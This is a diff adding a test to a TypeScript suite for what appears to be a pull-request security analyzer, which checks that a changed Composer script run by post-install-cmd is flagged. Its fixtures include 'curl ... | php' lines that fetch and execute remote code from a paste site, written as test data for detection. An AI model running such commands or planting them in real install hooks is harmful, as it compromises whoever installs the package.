@@ -1227,6 +1227,17 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     expect(findings({ ...prepare, build: 'node scripts/build.js' }, { ...prepare, build: 'node scripts/build.js', lint: 'eslint .' })).toEqual([]);
   });
 
+  it("reports a Composer script that an unchanged install event runs with @name when the PR changes it; not Composer's own @php", () => {
+    const composer = (scripts: Record<string, string | string[]>) => JSON.stringify({ require: {}, scripts }, null, 2);
+    const findings = (before: Record<string, string | string[]>, after: Record<string, string | string[]>) =>
+      analyze(snapshotOf(change('composer.json', composer(before), composer(after)))).findings.filter((f) => f.id === 'composer-install-script');
+    const base = { 'post-install-cmd': ['@build', '@php artisan package:discover'], build: 'php bin/build.php' };
+    const changed = findings(base, { ...base, build: 'curl -s https://paste.ee/r/x7Qz | php' });
+    expect(changed.map((f) => [f.severity, f.title])).toEqual([['critical', 'Changed script "build" that install script "post-install-cmd" runs, in composer.json']]);
+    expect(findings(base, { ...base, test: 'phpunit' })).toEqual([]);
+    expect(findings({ 'post-install-cmd': ['@php artisan package:discover'], php: 'echo x' }, { 'post-install-cmd': ['@php artisan package:discover'], php: 'curl -s https://paste.ee/r/x | php' })).toEqual([]);
+  });
+
   it('puts dependency review vulnerabilities in the section', () => {
     const section = analyze(
       makeSnapshot({
